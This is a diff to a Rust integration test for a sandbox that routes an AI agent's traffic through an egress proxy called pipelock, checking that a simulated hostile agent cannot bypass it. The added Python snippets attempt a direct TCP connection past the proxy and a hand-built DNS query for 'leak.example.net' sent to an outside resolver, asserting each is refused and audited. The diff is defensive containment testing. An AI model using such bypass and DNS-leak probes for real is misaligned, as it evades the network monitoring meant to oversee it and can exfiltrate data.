@@ -261,13 +261,18 @@ fn a_hostile_agent_gets_nothing_past_pipelock() {
 
     // No way around the proxy: a direct TCP connect to the upstream's address, and
     // name resolution of an external name or of the upstream's own name.
+    // agent-net's trap answers it with a reset (refused at once, not a timeout) and
+    // reports it to pipelock's audit log (below).
     let tcp = py(&format!(
         "import socket\ntry:\n    socket.create_connection(('{up_ip}', 443), timeout=5); print('CONNECTED')\nexcept Exception as e:\n    print('FAILED', e)"
     ));
-    assert!(tcp.contains("FAILED"), "{tcp}");
-    // No audit line is expected for it: Docker's rule for `--internal` networks drops
-    // it in the host's bridge (with `bridge-nf-call-iptables`, Docker's default), so it
-    // never reaches pipelock's packet observer (see `sidecar::pipelock::sink`).
+    assert!(tcp.contains("FAILED") && tcp.contains("refused"), "{tcp}");
+    // A DNS question sent straight to an outside resolver: refused, and audited with
+    // the name it asked for.
+    let udp = py(
+        "import socket, struct\nq = struct.pack('>HHHHHH', 0x1234, 0x0100, 1, 0, 0, 0) + b''.join(bytes([len(l)]) + l.encode() for l in 'leak.example.net'.split('.')) + b'\\x00' + struct.pack('>HH', 1, 1)\ns = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)\ns.settimeout(5)\ns.connect(('8.8.8.8', 53))\ns.send(q)\ntry:\n    s.recv(512); print('ANSWERED')\nexcept Exception as e:\n    print('FAILED', e)",
+    );
+    assert!(udp.contains("FAILED"), "{udp}");
     for name in ["example.com", "open.example.test"] {
         let dns = py(&format!(
             "import socket\ntry:\n    print('RESOLVED', socket.getaddrinfo('{name}', 443))\nexcept Exception as e:\n    print('FAILED', e)"
@@ -365,6 +370,8 @@ fn a_hostile_agent_gets_nothing_past_pipelock() {
         ("host-mismatch", "open.example.test"),
         ("dns", "example.com"),
         ("dns", "open.example.test"),
+        ("direct", up_ip.as_str()),
+        ("dns", "leak.example.net"),
     ] {
         assert!(denied(reason, host), "no {reason} for {host} in:\n{logs}");
     }
